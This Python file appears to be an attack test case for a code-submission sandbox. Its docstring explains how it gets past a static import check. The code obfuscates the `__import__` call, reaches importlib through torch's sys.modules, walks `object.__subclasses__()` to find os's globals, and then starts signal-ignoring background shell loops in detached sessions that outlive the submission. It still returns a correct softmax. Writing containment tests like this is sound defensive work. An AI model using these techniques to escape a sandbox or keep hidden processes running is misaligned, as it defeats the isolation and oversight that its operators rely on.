"""Attack: shows that the static import check is a courtesy. It reaches `os` without importing
it, by the routes Python offers (the guarded __import__ is tried first and must be refused at
run time): importlib from torch's sys.modules, and os's own globals found through a class from
object.__subclasses__(). It then starts background processes under the marker name, in their own
sessions, with os.system and with subprocess, and answers correctly.

portable: not contained: a process started in a session of its own between two looks of the portable level's process watch outlives the submission (no subreaper, no PID namespace)
expect: contained
policy: refused
"""
import torch

try:
    __import__("o" + "s")
    print("NOTE: the guarded __import__ let `os` through", flush=True)
except ImportError:
    pass
importlib = torch.sys.modules["importlib"]
os_globals = None
for cls in ().__class__.__base__.__subclasses__():
    scope = getattr(getattr(cls, "__init__", None), "__globals__", None)
    if isinstance(scope, dict) and "system" in scope and "fork" in scope and "setsid" in scope:
        os_globals = scope
        break
loop = "trap '' TERM HUP INT; while :; do sleep 1; done"
if os_globals is not None:
    os_globals["system"](f"setsid sh -c \"{loop}\" __MARKER__ >/dev/null 2>&1 &")
subprocess = importlib.import_module("sub" + "process")
subprocess.Popen(["sh", "-c", loop, "__MARKER__"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def softmax(X, dim=-1):
    e = (X - X.amax(dim=dim, keepdim=True)).exp()
    return e / e.sum(dim=dim, keepdim=True)
